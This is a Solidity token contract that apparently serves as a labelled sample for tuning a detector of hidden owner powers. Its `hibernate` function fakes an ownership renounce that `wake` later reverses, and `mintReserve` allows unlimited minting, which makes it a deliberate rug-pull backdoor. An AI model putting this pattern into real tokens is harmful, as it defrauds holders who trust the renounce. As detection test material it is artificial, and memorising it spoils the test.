// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// A renounce for show that the former owner takes back after a date, then uses a power only the
// owner has: SafeMoon's lock and unlock with a wait, followed by a mint. Written as a tuning token
// for powers whose first step waits for the clock; other names than the held-out part.

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// `hibernate` hands ownership to nobody until a date; `wake` gives it back to the former owner
/// from then on, and `mintReserve` lets the owner mint any amount.
contract TnDormantOwnerToken is ERC20 {
    address private currentOwner;
    address private sleeper;
    uint256 private wakeAt;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) {
        currentOwner = msg.sender;
        _mint(msg.sender, supply);
    }

    modifier onlyOwner() {
        require(msg.sender == currentOwner, "owner");
        _;
    }

    function owner() external view returns (address) {
        return currentOwner;
    }

    function hibernate(uint256 duration) external onlyOwner {
        sleeper = currentOwner;
        wakeAt = block.timestamp + duration;
        emit OwnershipTransferred(currentOwner, address(0));
        currentOwner = address(0);
    }

    function wake() external {
        require(msg.sender == sleeper && block.timestamp > wakeAt, "asleep");
        emit OwnershipTransferred(address(0), sleeper);
        currentOwner = sleeper;
    }

    function mintReserve(uint256 amount) external onlyOwner {
        _mint(msg.sender, amount);
    }
}
